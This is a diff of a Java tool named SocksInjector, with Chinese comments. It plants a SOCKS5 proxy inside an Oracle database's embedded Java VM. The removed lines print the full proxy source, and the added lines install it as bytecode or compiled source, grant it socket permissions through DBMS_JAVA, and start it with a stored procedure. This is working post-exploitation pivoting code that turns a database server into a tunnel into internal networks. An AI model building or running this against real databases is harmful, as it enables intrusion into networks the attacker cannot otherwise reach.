+            md.update((host + ":" + proxyPort + ":" + user.toUpperCase()).getBytes(StandardCharsets.UTF_8));
+            StringBuilder hex = new StringBuilder(64);
+            for (byte b : md.digest()) {
+                hex.append(String.format("%02x", b));
+            }
+            return hex.toString();
+        } catch (NoSuchAlgorithmException e) {
+            throw new SQLException("无法计算代理哈希: " + e.getMessage());
+        }
+    }
+
+    // 从调用规范中取出对象名, 供有效性检查使用
+    private static String callSpecNames() {
+        StringBuilder names = new StringBuilder();
+        for (String spec : CALL_SPECS) {
+            String name = spec.replaceFirst("(?s)^CREATE OR REPLACE (PROCEDURE|FUNCTION) (\\w+).*", "$2");
+            names.append(names.length() == 0 ? "'" : ", '").append(name.toUpperCase()).append('\'');
         }
+        return names.toString();
     }
 
-    private void createProxyClass(Connection conn) throws SQLException {
-        String javaCode = generateProxyCode().replace("'", "''")
-                .replaceAll("\\s*\\n\\s*", "\n")
-                .replaceAll("\\s{2,}", " ");
+    private static void grant(StringBuilder block, String type, String name, String action) {
+        block.append("  DBMS_JAVA.GRANT_PERMISSION(u, '").append(type).append("', '")
+                .append(name.replace("'", "''")).append("', '").append(action).append("');\n");
+    }
 
-        String createSQL = "DECLARE\n" +
-                "  l_clob CLOB;\n" +
+    // 优先加载构建期编译的字节码, 省去库内 javac; 11g 的 OJVM 无法运行 Java 8 字节码, 直接编译源码
+    private void installProxy(Connection conn, Map<String, byte[]> classes, String tag) throws SQLException {
+        if (!classes.isEmpty()) {
+            long t = System.nanoTime();
+            int trips = roundTrips;
+            try {
+                loadProxyBytecode(conn, classes, tag);
+                recordPhase("加载字节码(" + classes.size() + "个类)", t, trips);
+                return;
+            } catch (SQLException e) {
+                System.err.println("字节码加载失败, 改为源码编译: " + e.getMessage());
+                dropProxyClasses(conn);
+            }
+        }
+        long t = System.nanoTime();
+        int trips = roundTrips;
+        compileProxySource(conn, tag);
+        recordPhase("库内编译源码", t, trips);
+    }
+
+    private void loadProxyBytecode(Connection conn, Map<String, byte[]> classes, String tag) throws SQLException {
+        try (PreparedStatement pstmt = conn.prepareStatement("INSERT INTO " + STAGE_TABLE + " (name, bytes) VALUES (?, ?)")) {
+            for (Map.Entry<String, byte[]> e : classes.entrySet()) {
+                pstmt.setString(1, e.getKey());
+                pstmt.setBytes(2, e.getValue());
+                pstmt.addBatch();
+            }
+            pstmt.executeBatch();
+            roundTrips++;
+        }
+
+        // 先删除旧版本遗留的同名 JAVA SOURCE, 否则其派生类会阻止覆盖; 全部类加载完后统一解析,
+        // 全部有效时在同一块内创建调用规范
+        StringBuilder block = new StringBuilder("DECLARE\n  l_invalid NUMBER;\nBEGIN\n")
+                .append("  BEGIN EXECUTE IMMEDIATE 'DROP JAVA SOURCE \"").append(PROXY_CLASS)
+                .append("\"'; EXCEPTION WHEN OTHERS THEN NULL; END;\n");
+        for (String name : classes.keySet()) {
+            block.append("  EXECUTE IMMEDIATE 'CREATE OR REPLACE JAVA CLASS USING BLOB (SELECT bytes FROM ")
+                    .append(STAGE_TABLE).append(" WHERE name = ''").append(name).append("'')';\n");
+        }
+        for (String name : classes.keySet()) {
+            block.append("  BEGIN EXECUTE IMMEDIATE 'ALTER JAVA CLASS \"").append(name)
+                    .append("\" RESOLVE'; EXCEPTION WHEN OTHERS THEN NULL; END;\n");
+        }
+        block.append("  EXECUTE IMMEDIATE 'DELETE FROM ").append(STAGE_TABLE).append("';\n")
+                .append("  SELECT COUNT(*) INTO l_invalid FROM user_objects WHERE object_type = 'JAVA CLASS'\n")
+                .append("    AND status <> 'VALID' AND DBMS_JAVA.LONGNAME(object_name) LIKE '").append(PROXY_CLASS).append("%';\n")
+                .append("  IF l_invalid = 0 THEN\n");
+        createProcedure(block, tag);
+        block.append("  END IF;\n  ? := l_invalid;\nEND;");
+
+        try (CallableStatement stmt = conn.prepareCall(block.toString())) {
+            stmt.registerOutParameter(1, Types.INTEGER);
+            execute(stmt);
+            if (stmt.getInt(1) > 0) {
+                throw new SQLException(stmt.getInt(1) + " 个代理类解析失败");
+            }
+        }
+    }
+
+    private void dropProxyClasses(Connection conn) throws SQLException {
+        executeSQL(conn, "BEGIN\n" +
+                "  FOR c IN (SELECT object_name FROM user_objects WHERE object_type = 'JAVA CLASS'\n" +
+                "            AND DBMS_JAVA.LONGNAME(object_name) LIKE '" + PROXY_CLASS + "%') LOOP\n" +
+                "    BEGIN EXECUTE IMMEDIATE 'DROP JAVA CLASS \"' || c.object_name || '\"'; EXCEPTION WHEN OTHERS THEN NULL; END;\n" +
+                "  END LOOP;\n" +
+                "END;");
+    }
+
+    // 源码已超过 PL/SQL VARCHAR2 的 32K 上限, 以 CLOB 绑定上传; 编译、状态检查、错误收集与调用规范同在一个块内.
+    // 源码经绑定变量拼接, 不在 SQL 字面量内, 引号无需转义; 只去掉行首尾空白 (字符串字面量不会跨行)
+    private void compileProxySource(Connection conn, String tag) throws SQLException {
+        String javaCode = generateProxyCode().replaceAll("\\s*\\n\\s*", "\n");
+
+        StringBuilder block = new StringBuilder("DECLARE\n" +
+                "  l_clob CLOB := ?;\n" +
+                "  l_status VARCHAR2(30);\n" +
+                "  l_errors VARCHAR2(4000);\n" +
                 "BEGIN\n" +
-                "  DBMS_LOB.CREATETEMPORARY(l_clob, TRUE);\n" +
-                "  DBMS_LOB.WRITEAPPEND(l_clob, LENGTH(?), ?);\n" +
-                "  EXECUTE IMMEDIATE 'CREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED \"OracleSocks5Proxy\" AS ' || l_clob;\n" +
-                "  DBMS_LOB.FREETEMPORARY(l_clob);\n" +
-                "END;";
-
-        try (PreparedStatement pstmt = conn.prepareStatement(createSQL)) {
-            pstmt.setString(1, javaCode);
-            pstmt.setString(2, javaCode);
-            pstmt.execute();
-        }
-        checkCompilationStatus(conn);
-    }
-
-    private String generateProxyCode() {
-        return "import java.io.*;\n" +
-                "import java.net.*;\n" +
-                "public class OracleSocks5Proxy {\n" +
-                "    private static ServerSocket ss;\n" +
-                "    private static volatile boolean running = false;\n" +
-                "    private static Thread serverThread;\n" +
-                "\n" +
-                "    public static void start(final int port) throws Exception {\n" +
-                "        running = true;\n" +
-                "        serverThread = new Thread(new Runnable() {\n" +
-                "            public void run() {\n" +
-                "                try {\n" +
-                "                    ss = new ServerSocket(port);\n" +
-                "                    while (running) {\n" +
-                "                        try {\n" +
-                "                            final Socket client = ss.accept();\n" +
-                "                            new Thread(new Runnable() {\n" +
-                "                                public void run() {\n" +
-                "                                    try {\n" +
-                "                                        handleConnection(client);\n" +
-                "                                    } catch (Exception e) {\n" +
-                "                                        try { client.close(); } catch (Exception ignored) {}\n" +
-                "                                    }\n" +
-                "                                }\n" +
-                "                            }).start();\n" +
-                "                        } catch (Exception e) {\n" +
-                "                            if (running) {\n" +
-                "                                try { Thread.sleep(1000); } catch (InterruptedException ignored) {}\n" +
-                "                            }\n" +
-                "                        }\n" +
-                "                    }\n" +
-                "                } catch (Exception e) {\n" +
-                "                    if (running) {\n" +
-                "                        e.printStackTrace();\n" +
-                "                    }\n" +
-                "                } finally {\n" +
-                "                    try {\n" +
-                "                        if (ss != null && !ss.isClosed()) {\n" +
-                "                            ss.close();\n" +
-                "                        }\n" +
-                "                    } catch (IOException e) {\n" +
-                "                        e.printStackTrace();\n" +
-                "                    }\n" +
-                "                }\n" +
-                "            }\n" +
-                "        }, \"SOCKS-Server\");\n" +
-                "        serverThread.start();\n" +
-                "    }\n" +
-                "\n" +
-                "    private static void handleConnection(Socket client) throws Exception {\n" +
-                "        if (!running) {\n" +
-                "            client.close();\n" +
-                "            return;\n" +
-                "        }\n" +
-                "        DataInputStream in = new DataInputStream(client.getInputStream());\n" +
-                "        DataOutputStream out = new DataOutputStream(client.getOutputStream());\n" +
-                "\n" +
-                "        byte ver = in.readByte();\n" +
-                "        if (ver != 0x05) {\n" +
-                "            out.write(new byte[]{0x05, (byte)0xFF});\n" +
-                "            client.close();\n" +
-                "            return;\n" +
-                "        }\n" +
-                "\n" +
-                "        int nmethods = in.readByte();\n" +
-                "        byte[] methods = new byte[nmethods];\n" +
-                "        in.readFully(methods);\n" +
-                "        out.write(new byte[]{0x05, 0x00});\n" +
-                "\n" +
-                "        ver = in.readByte();\n" +
-                "        byte cmd = in.readByte();\n" +
-                "        byte rsv = in.readByte();\n" +
-                "        byte atyp = in.readByte();\n" +
-                "\n" +
-                "        InetAddress addr;\n" +
-                "        int port;\n" +
-                "\n" +
-                "        switch(atyp) {\n" +
-                "            case 0x01:\n" +
-                "                byte[] ipv4 = new byte[4];\n" +
-                "                in.readFully(ipv4);\n" +
-                "                addr = InetAddress.getByAddress(ipv4);\n" +
-                "                break;\n" +
-                "            case 0x03:\n" +
-                "                int len = in.readByte();\n" +
-                "                byte[] domain = new byte[len];\n" +
-                "                in.readFully(domain);\n" +
-                "                addr = InetAddress.getByName(new String(domain));\n" +
-                "                break;\n" +
-                "            default:\n" +
-                "                throw new Exception(\"Unsupported address type: \" + atyp);\n" +
-                "        }\n" +
-                "\n" +
-                "        port = in.readUnsignedShort();\n" +
-                "        Socket target = new Socket();\n" +
-                "        target.connect(new InetSocketAddress(addr, port), 10000);\n" +
-                "\n" +
-                "        byte[] response = new byte[] {\n" +
-                "            0x05, 0x00, 0x00, 0x01,\n" +
-                "            (byte)0x00, (byte)0x00, (byte)0x00, (byte)0x00,\n" +
-                "            (byte)(target.getLocalPort() >> 8), (byte)(target.getLocalPort() & 0xFF)\n" +
-                "        };\n" +
-                "        out.write(response);\n" +
-                "\n" +
-                "        forward(client.getInputStream(), target.getOutputStream());\n" +
-                "        forward(target.getInputStream(), client.getOutputStream());\n" +
-                "    }\n" +
-                "\n" +
-                "    private static void forward(final InputStream input, final OutputStream output) {\n" +
-                "        new Thread(new Runnable() {\n" +
-                "            public void run() {\n" +
-                "                byte[] buffer = new byte[8192];\n" +
-                "                try {\n" +
-                "                    int len;\n" +
-                "                    while (running && (len = input.read(buffer)) != -1) {\n" +
-                "                        output.write(buffer, 0, len);\n" +
-                "                        output.flush();\n" +
-                "                    }\n" +
-                "                } catch (Exception e) {\n" +
-                "                } finally {\n" +
-                "                    try {\n" +
-                "                        input.close();\n" +
-                "                        output.close();\n" +
-                "                    } catch (Exception e) {\n" +
-                "                    }\n" +
-                "                }\n" +
-                "            }\n" +
-                "        }).start();\n" +
-                "    }\n" +
-                "}";
-    }
-
-    private void checkCompilationStatus(Connection conn) throws SQLException {
-        try (Statement stmt = conn.createStatement();
-             ResultSet rs = stmt.executeQuery("SELECT status FROM all_objects WHERE object_name = 'ORACLESOCKS5PROXY'")) {
-            if (rs.next() && !"VALID".equals(rs.getString("status"))) {
-                throw new SQLException("Java类编译失败: " + getCompilationErrors(conn));
+                "  BEGIN\n" +
+                "    EXECUTE IMMEDIATE 'CREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED \"" + PROXY_CLASS + "\" AS ' || l_clob;\n" +
+                "  EXCEPTION WHEN OTHERS THEN\n" +
+                "    IF SQLCODE != -24344 THEN RAISE; END IF;\n" + // ORA-24344: 编译有错误, 下面收集
+                "  END;\n" +
+                "  SELECT MIN(status) INTO l_status FROM user_objects\n" +
+                "    WHERE object_name = '" + PROXY_CLASS + "' AND object_type = 'JAVA CLASS';\n" +
+                "  IF l_status = 'VALID' THEN\n");
+        createProcedure(block, tag);
+        block.append("  ELSE\n" +
+                "    FOR e IN (SELECT line, position, text FROM user_errors WHERE name = '" + PROXY_CLASS + "' ORDER BY sequence) LOOP\n" +
+                "      l_errors := SUBSTR(l_errors || 'Line ' || e.line || '-' || e.position || ': ' || e.text || CHR(10), 1, 4000);\n" +
+                "    END LOOP;\n" +
+                "  END IF;\n" +
+                "  ? := l_status;\n" +
+                "  ? := l_errors;\n" +
+                "END;");
+
+        Clob clob = conn.createClob();
+        try (CallableStatement stmt = conn.prepareCall(block.toString())) {
+            clob.setString(1, javaCode);
+            stmt.setClob(1, clob);
+            stmt.registerOutParameter(2, Types.VARCHAR);
+            stmt.registerOutParameter(3, Types.VARCHAR);
+            execute(stmt);
+            if (!"VALID".equals(stmt.getString(2))) {
+                throw new SQLException("Java类编译失败: " + stmt.getString(3));
             }
+        } finally {
+            clob.free();
         }
     }
 
-    private String getCompilationErrors(Connection conn) throws SQLException {
-        StringBuilder errors = new StringBuilder();
-        try (Statement stmt = conn.createStatement();
-             ResultSet rs = stmt.executeQuery("SELECT line, position, text FROM USER_ERRORS WHERE name = 'ORACLESOCKS5PROXY'")) {
-            while (rs.next()) {
-                errors.append(String.format("Line %d-%d: %s\n",
-                        rs.getInt("line"),
-                        rs.getInt("position"),
-                        rs.getString("text")));
+    // 构建期编译的代理类 (OracleSocks5Proxy*.class) 与源码同在 jar 根目录; 从 IDE 的 classes 目录运行时同样适用
+    private static Map<String, byte[]> readProxyClasses() throws SQLException {
+        Map<String, byte[]> classes = new TreeMap<>();
+        URL url = SocksInjector.class.getResource("/" + PROXY_CLASS + ".class");
+        if (url == null) {
+            return classes;
+        }
+        try {
+            if ("jar".equals(url.getProtocol())) {
+                JarURLConnection jarConn = (JarURLConnection) url.openConnection();
+                jarConn.setUseCaches(false);
+                try (JarFile jar = jarConn.getJarFile()) {
+                    Enumeration<JarEntry> entries = jar.entries();
+                    while (entries.hasMoreElements()) {
+                        JarEntry entry = entries.nextElement();
+                        if (isProxyClassFile(entry.getName())) {
+                            try (InputStream in = jar.getInputStream(entry)) {
+                                classes.put(className(entry.getName()), readAll(in));
+                            }
+                        }
+                    }
+                }
+            } else if ("file".equals(url.getProtocol())) {
+                File[] files = new File(url.toURI()).getParentFile().listFiles();
+                for (File f : files == null ? new File[0] : files) {
+                    if (isProxyClassFile(f.getName())) {
+                        try (InputStream in = new FileInputStream(f)) {
+                            classes.put(className(f.getName()), readAll(in));
+                        }
+                    }
+                }
+            }
+        } catch (Exception e) {
+            throw new SQLException("读取代理字节码失败: " + e.getMessage());
+        }
+        return classes;
+    }
+
+    private static boolean isProxyClassFile(String name) {
+        return name.endsWith(".class")
+                && (name.equals(PROXY_CLASS + ".class") || name.startsWith(PROXY_CLASS + "$"));
+    }
+
+    private static String className(String fileName) {
+        return fileName.substring(0, fileName.length() - ".class".length());
+    }
+
+    private static byte[] readAll(InputStream in) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream(64 * 1024);
+        byte[] buf = new byte[8192];
+        int n;
+        while ((n = in.read(buf)) != -1) {
+            out.write(buf, 0, n);
+        }
+        return out.toByteArray();
+    }
+
+    // 代理源码随 jar 打包 (src/main/proxy), 基准测试模块编译的也是这一份
+    private String generateProxyCode() throws SQLException {
+        try (InputStream in = SocksInjector.class.getResourceAsStream(PROXY_SOURCE)) {
+            if (in == null) {
+                throw new SQLException("代理源码缺失: " + PROXY_SOURCE);
             }
+            return new String(readAll(in), StandardCharsets.UTF_8);
+        } catch (IOException e) {
+            throw new SQLException("读取代理源码失败: " + e.getMessage());
         }
-        return errors.toString();
     }
 
-    private void createProcedure(Connection conn) throws SQLException {
-        String createStartProcSQL =
-                "CREATE OR REPLACE PROCEDURE start_socks5(port IN NUMBER)\n" +
-                        "AS LANGUAGE JAVA\n" +
-                        "NAME 'OracleSocks5Proxy.start(int)';";
-        executeSQL(conn, createStartProcSQL);
+    private void createProcedure(StringBuilder block, String tag) {
+        for (String spec : CALL_SPECS) {
+            block.append("    EXECUTE IMMEDIATE '").append(spec.replace("'", "''")).append("';\n");
+        }
+        block.append("    EXECUTE IMMEDIATE 'CREATE OR REPLACE FUNCTION ").append(TAG_FUNCTION)
+                .append(" RETURN VARCHAR2 AS BEGIN RETURN ''").append(tag).append("''; END;';\n");
     }
 
-    private void startProxyService(Connection conn, int proxyPort) throws SQLException {
-        try (CallableStatement stmt = conn.prepareCall("{call start_socks5(?)}")) {
+    // 端口登记与启动同块执行, 不增加往返; 监听结束后清除登记
+    private void startProxyService(Connection conn, int proxyPort, ProxyConfig config) throws SQLException {
+        try (CallableStatement stmt = conn.prepareCall("BEGIN\n" +
+                "  DBMS_APPLICATION_INFO.SET_CLIENT_INFO('" + PORT_TAG + "' || ?);\n" +
+                "  start_socks5(?, ?);\n" +
+                "  DBMS_APPLICATION_INFO.SET_CLIENT_INFO(NULL);\n" +
+                "EXCEPTION WHEN OTHERS THEN\n" +
+                "  DBMS_APPLICATION_INFO.SET_CLIENT_INFO(NULL);\n" +
+                "  RAISE;\n" +
+                "END;")) {
             stmt.setInt(1, proxyPort);
+            stmt.setInt(2, proxyPort);
+            stmt.setString(3, config.toOptions());
             stmt.execute();
         } catch (SQLException e) {
             throw new SQLException("代理服务启动失败: " + e.getMessage());
@@ -420,10 +968,23 @@ public class SocksInjector {
     private void executeSQL(Connection conn, String sql) throws SQLException {
         try (Statement stmt = conn.createStatement()) {
             stmt.execute(sql);
+            roundTrips++;
         }
     }
 
+    private void execute(PreparedStatement stmt) throws SQLException {
+        stmt.execute();
+        roundTrips++;
+    }
+
     private void closeResources() {
+        try {
+            if (controlConn != null && !controlConn.isClosed()) {
+                controlConn.close();
+            }
+        } catch (SQLException e) {
+            System.err.println("关闭控制连接失败: " + e.getMessage());
+        }
         try {
             if (persistentConn != null && !persistentConn.isClosed()) {
                 persistentConn.close();
@@ -433,6 +994,11 @@ public class SocksInjector {
         }
     }
 
+    // 关闭本实例持有的数据库连接, 不影响其它会话中运行的代理
+    public void close() {
+        closeResources();
+    }
+
     public String getHost() {
         return host;
     }
@@ -440,4 +1006,26 @@ public class SocksInjector {
     public String getOracleVersion() {
         return oracleVersion;
     }
+
+    // sid 或 service, 以及是否直接取自连接缓存
+    public String getConnectForm() {
+        return connectForm;
+    }
+
+    public boolean isProfileHit() {
+        return profileHit;
+    }
+
+    public int getProxyPort() {
+        return proxyPort;
+    }
+
+    // 重新接管到的监听会话 "sid,serial#"
+    public String getListenerSession() {
+        return listenerSession;
+    }
+
+    public String getDriverName() {
+        return driverName == null ? "classpath" : driverName;
+    }
 }
\ No newline at end of file